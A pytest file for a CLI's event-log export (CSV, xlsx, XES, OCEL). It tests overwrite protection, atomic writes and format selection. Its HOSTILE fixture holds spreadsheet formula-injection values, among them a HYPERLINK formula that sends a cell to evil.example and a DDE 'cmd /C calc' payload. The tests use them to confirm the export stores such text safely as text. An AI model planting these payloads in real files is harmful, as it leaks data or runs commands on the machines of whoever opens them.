"""`incubator export`: never onto the database, never over a file without --force, never
half-written; CSV byte-exact (with an optional BOM for Excel), xlsx with text cells, and XES
and OCEL for process mining."""

from __future__ import annotations

import csv
import io
import json
import os
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from incubator import eventlog
from incubator.cli import app

ROOT = Path(__file__).resolve().parents[2]
DEMO = ROOT / "fixtures" / "demo_events.csv"
VERIFIED = (
    "OK: 675 events in 300 companies verified "
    "(with 300 company records, the company rows, the spells and the evidence tables)\n"
)
#: Values a spreadsheet would run as formulas, typed where the tracker keeps free text.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "site": "@SUM(1+1)",
    "actor": "+cmd|' /C calc'!A0",
    "note": "-2+3 荆门智造科技有限公司",
}

Cli = Callable[..., Any]


def invoke(*args: str, input: str | None = None) -> Any:
    return CliRunner().invoke(app, list(args), input=input, catch_exceptions=False)


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "live.db"


@pytest.fixture
def cli(db_path: Path) -> Cli:
    url = f"sqlite:///{db_path}"

    def run(*args: str, ok: bool = True) -> Any:
        result = invoke(*args, "--db", url)
        if ok:
            assert result.exit_code == 0, result.output + result.stderr
        return result

    run("init")
    return run


@pytest.fixture
def demo(cli: Cli) -> Cli:
    """The CLI on a database holding the demo log (675 events in 300 companies)."""
    cli("import", str(DEMO))
    assert cli("audit", "verify").stdout == VERIFIED
    return cli


#: Every format, and the file name ending that picks it.
SUFFIXES = {"csv": "csv", "xlsx": "xlsx", "xes": "xes", "ocel": "json"}
#: What the command prints after the event count, per format (the demo log).
SUMMARIES = {"csv": "", "xlsx": "", "xes": " (300 traces)", "ocel": " (300 companies, 4 sites)"}
XES = "{http://www.xes-standard.org/}"


def one_line_error(result: Any, message: str) -> None:
    assert result.exit_code == 1, result.output
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr


def files_in(folder: Path) -> list[str]:
    """The folder's files but the database's (its -wal and -shm come and go)."""
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("live.db"))


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- never onto the database --------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
@pytest.mark.parametrize("force", [False, True])
def test_export_onto_the_database_or_its_companions_is_refused(
    demo: Cli, db_path: Path, suffix: str, force: bool
) -> None:
    target = f"{db_path}{suffix}"
    result = demo("export", target, *(["--force"] if force else []), ok=False)
    one_line_error(result, "it is the database")
    assert demo("audit", "verify").stdout == VERIFIED
    assert len(demo("export", "-").stdout.splitlines()) == 676


def test_export_onto_the_database_named_relative_to_the_working_directory_is_refused(
    demo: Cli, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The reported case: INCUBATOR_DATABASE_URL=sqlite:///self.db incubator export self.db"""
    monkeypatch.chdir(db_path.parent)
    monkeypatch.setenv("INCUBATOR_DATABASE_URL", f"sqlite:///{db_path.name}")
    for args in (
        ["export", db_path.name],
        ["export", f"./{db_path.name}", "--format", "xlsx"],
        ["export", db_path.name, "--format", "xes", "--force"],
        ["export", f"{db_path.name}-wal", "--format", "ocel", "--force"],
    ):
        one_line_error(invoke(*args), "it is the database")
    assert invoke("audit", "verify").stdout == VERIFIED


# --- never over a file without --force ------------------------------------------------------


@pytest.mark.parametrize("fmt", list(SUFFIXES))
def test_an_existing_file_is_replaced_only_with_force(demo: Cli, tmp_path: Path, fmt: str) -> None:
    target = tmp_path / f"events.{SUFFIXES[fmt]}"
    target.write_text("keep me")
    one_line_error(demo("export", str(target), ok=False), "exists already; add --force")
    assert target.read_text() == "keep me"
    assert (
        demo("export", str(target), "--force").stdout
        == f"exported 675 events to {target}{SUMMARIES[fmt]}\n"
    )
    data = target.read_bytes()
    if fmt == "csv":
        assert data.startswith(b"company_key,company_name,event,")
    elif fmt == "xlsx":
        assert load_workbook(io.BytesIO(data)).active.max_row == 676
    elif fmt == "xes":
        assert len(ET.fromstring(data).findall(f"{XES}trace/{XES}event")) == 675
    else:
        assert len(json.loads(data)["events"]) == 675


# --- never half-written --------------------------------------------------------------------


def fail_midway(monkeypatch: pytest.MonkeyPatch, after: int) -> None:
    """The disk fills up after `after` events have been formatted."""
    real = eventlog.isoformat
    calls = iter(range(10**9))

    def isoformat(moment: Any) -> str:
        if next(calls) >= 2 * after:  # two times per event
            raise OSError(28, "No space left on device")
        return real(moment)

    monkeypatch.setattr(eventlog, "isoformat", isoformat)


@pytest.mark.parametrize("fmt", list(SUFFIXES))
def test_a_failure_during_the_export_leaves_no_file_and_no_temporary_file(
    demo: Cli, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = files_in(tmp_path)
    fail_midway(monkeypatch, after=400)
    target = tmp_path / f"events.{SUFFIXES[fmt]}"
    result = demo("export", str(target), ok=False)
    one_line_error(result, f"cannot write {target}: No space left on device")
    assert files_in(tmp_path) == before


@pytest.mark.parametrize("fmt", list(SUFFIXES))
def test_a_failure_while_replacing_with_force_keeps_the_old_file(
    demo: Cli, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / f"events.{SUFFIXES[fmt]}"
    demo("export", str(target))
    old = target.read_bytes()
    before = files_in(tmp_path)
    fail_midway(monkeypatch, after=400)
    one_line_error(demo("export", str(target), "--force", ok=False), "No space left on device")
    assert target.read_bytes() == old
    assert files_in(tmp_path) == before


def test_export_into_a_missing_directory_is_refused_and_creates_nothing(
    demo: Cli, tmp_path: Path
) -> None:
    before = files_in(tmp_path)
    result = demo("export", str(tmp_path / "nowhere" / "events.csv"), ok=False)
    one_line_error(result, "does not exist")
    assert files_in(tmp_path) == before


# --- formats --------------------------------------------------------------------------------


def admit_hostile(cli: Cli) -> None:
    cli("site", "add", HOSTILE["site"], "--by", HOSTILE["actor"])  # an admin adds a site first
    cli("company", "add", "JM-0666", "--name", HOSTILE["name"], "--stage", "seed",
        "--site", HOSTILE["site"], "--by", HOSTILE["actor"], "--note", HOSTILE["note"],
        "--at", "2024-01-01")  # fmt: skip


def test_xlsx_export_has_the_csv_values_with_formula_looking_text_as_text(
    demo: Cli, tmp_path: Path
) -> None:
    admit_hostile(demo)
    demo("export", str(tmp_path / "events.csv"))
    demo("export", str(tmp_path / "events.xlsx"), "--format", "xlsx")
    data = (tmp_path / "events.xlsx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "events" and sheet.freeze_panes == "A2"
    cells = [list(row) for row in sheet.iter_rows()]
    assert [[("" if c.value is None else str(c.value)) for c in row] for row in cells] == rows_of(
        (tmp_path / "events.csv").read_bytes()
    )
    (hostile,) = [row for row in cells if row[0].value == "JM-0666"]
    by_column = {name: c for name, c in zip(eventlog.EXPORT_COLUMNS, hostile, strict=True)}
    for field, column in [("name", "company_name"), ("site", "site"), ("actor", "actor"),
                          ("note", "note")]:  # fmt: skip
        assert by_column[column].value == HOSTILE[field]
        assert by_column[column].data_type == "s"


def test_the_format_follows_the_file_name_unless_given(demo: Cli, tmp_path: Path) -> None:
    demo("export", str(tmp_path / "events.xlsx"))
    assert zipfile.is_zipfile(tmp_path / "events.xlsx")
    demo("export", str(tmp_path / "events.txt"))
    assert (tmp_path / "events.txt").read_bytes().startswith(b"company_key,")
    for name in ("events.xes", "EVENTS.XES"):
        demo("export", str(tmp_path / name), "--force")
        assert ET.fromstring((tmp_path / name).read_bytes()).tag == f"{XES}log"
    for name in ("events.json", "events.jsonocel"):
        demo("export", str(tmp_path / name))
        assert "objectTypes" in json.loads((tmp_path / name).read_bytes())
    demo("export", str(tmp_path / "ocel.txt"), "--format", "OCEL")
    assert json.loads((tmp_path / "ocel.txt").read_bytes())["objects"]
    demo("export", str(tmp_path / "csv.xes"), "--format", "csv")
    assert (tmp_path / "csv.xes").read_bytes().startswith(b"company_key,")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "ods"], "unknown format 'ods'; allowed: csv, xlsx, xes, ocel"),
        (["--format", "xlsx", "--bom"], "--bom applies to CSV only"),
        (["--format", "xes", "--bom"], "--bom applies to CSV only; an XES log needs none"),
        (["--format", "ocel", "--bom"], "--bom applies to CSV only; an OCEL log needs none"),
    ],
)
def test_a_bad_format_choice_is_refused_and_writes_nothing(
    demo: Cli, tmp_path: Path, args: list[str], message: str
) -> None:
    before = files_in(tmp_path)
    one_line_error(demo("export", str(tmp_path / "out"), *args, ok=False), message)
    assert files_in(tmp_path) == before


def test_export_to_stdout_writes_any_format(demo: Cli, tmp_path: Path) -> None:
    text = demo("export", "-").stdout
    assert text.startswith("company_key,") and len(text.splitlines()) == 676
    data = demo("export", "-", "--format", "xlsx").stdout_bytes
    assert load_workbook(io.BytesIO(data)).active.max_row == 676
    for fmt in ("xes", "ocel"):
        demo("export", str(tmp_path / f"events.{fmt}"), "--format", fmt)
        streamed = demo("export", "-", "--format", fmt).stdout_bytes
        assert streamed == (tmp_path / f"events.{fmt}").read_bytes()


def test_a_bom_export_starts_with_the_bom_and_reimports_to_the_same_export(
    demo: Cli, tmp_path: Path
) -> None:
    admit_hostile(demo)
    first = tmp_path / "first.csv"
    demo("export", str(first), "--bom")
    data = first.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfcompany_key,")
    assert data[3:] == demo("export", "-").stdout_bytes  # otherwise the same bytes

    second_url = f"sqlite:///{tmp_path / 'second.db'}"
    assert invoke("init", "--db", second_url).exit_code == 0
    # the other database knows the demo's sites (tests/conftest.py); an admin adds this one
    assert "unknown site '@SUM(1+1)'" in invoke("import", str(first), "--db", second_url).stderr
    assert invoke("site", "add", HOSTILE["site"], "--by", "root", "--db", second_url).exit_code == 0
    result = invoke("import", str(first), "--db", second_url)
    assert result.exit_code == 0, result.stderr
    second = invoke("export", "-", "--db", second_url).stdout_bytes

    def business(rows: list[list[str]]) -> list[list[str]]:
        return [row[:12] for row in rows]  # recorded_at, event_id and hash are new

    assert business(rows_of(second)) == business(rows_of(data))
    assert any("荆门智造科技有限公司" in row[7] for row in rows_of(second))


def test_the_csv_export_is_byte_exact_for_formula_looking_text(demo: Cli) -> None:
    admit_hostile(demo)
    (row,) = [r for r in rows_of(demo("export", "-").stdout_bytes) if r[0] == "JM-0666"]
    assert (row[1], row[6], row[7], row[10]) == (
        HOSTILE["name"],
        HOSTILE["actor"],
        HOSTILE["note"],
        HOSTILE["site"],
    )


def test_export_files_get_ordinary_permissions(demo: Cli, tmp_path: Path) -> None:
    target = tmp_path / "events.csv"
    demo("export", str(target))
    mask = os.umask(0)
    os.umask(mask)
    assert target.stat().st_mode & 0o777 == 0o644 & ~mask


def test_the_readme_documents_the_export_options_and_the_csv_formula_warning() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    for option in ("--format xlsx", "--force", "--bom"):
        assert option in readme, option
    assert "byte-exact" in readme
    assert "may run it as a" in readme and "formula" in readme


def test_an_xlsx_export_past_a_sheet_says_how_many_sheets_it_took() -> None:
    from incubator.cli import sheets_note

    assert sheets_note("xlsx", 1_048_575) == ""
    assert sheets_note("xlsx", 1_048_576) == " (2 sheets: a sheet holds 1,048,575 events)"
    assert sheets_note("csv", 5_000_000) == ""


def test_xes_and_ocel_exports_keep_hostile_text_as_typed(demo: Cli, tmp_path: Path) -> None:
    admit_hostile(demo)
    demo("advance", "JM-0666", "--by", "<wang & li>", "--note", 'line 1\n"line" 2\t<b>&amp;',
         "--at", "2024-02-01")  # fmt: skip
    demo("export", str(tmp_path / "events.xes"))

    def value(element: ET.Element, key: str) -> str | None:
        """The value of the element's own attribute `key`."""
        found = element.find(f"{XES}*[@key='{key}']")
        return None if found is None else found.get("value")

    log = ET.fromstring((tmp_path / "events.xes").read_bytes())
    (trace,) = [t for t in log.iter(f"{XES}trace") if value(t, "concept:name") == "JM-0666"]
    assert value(trace, "name") == HOSTILE["name"] and value(trace, "site") == HOSTILE["site"]
    admit, advance = trace.findall(f"{XES}event")
    assert (value(admit, "org:resource"), value(admit, "note")) == (
        HOSTILE["actor"], HOSTILE["note"],
    )  # fmt: skip
    assert value(advance, "org:resource") == "<wang & li>"
    assert value(advance, "note") == 'line 1\n"line" 2\t<b>&amp;'
    assert value(advance, "concept:name") == "advance → nursery"

    demo("export", str(tmp_path / "events.json"))
    document = json.loads((tmp_path / "events.json").read_bytes())
    (company,) = [o for o in document["objects"] if o["id"] == "JM-0666"]
    assert {"name": "name", "value": HOSTILE["name"], "time": "1970-01-01T00:00:00Z"} in company[
        "attributes"
    ]
    assert any(o["id"] == f"site:{HOSTILE['site']}" for o in document["objects"])
    notes = [a["value"] for e in document["events"] for a in e["attributes"]
             if a["name"] == "note" and e["relationships"][0]["objectId"] == "JM-0666"]  # fmt: skip
    assert notes == [HOSTILE["note"], 'line 1\n"line" 2\t<b>&amp;']
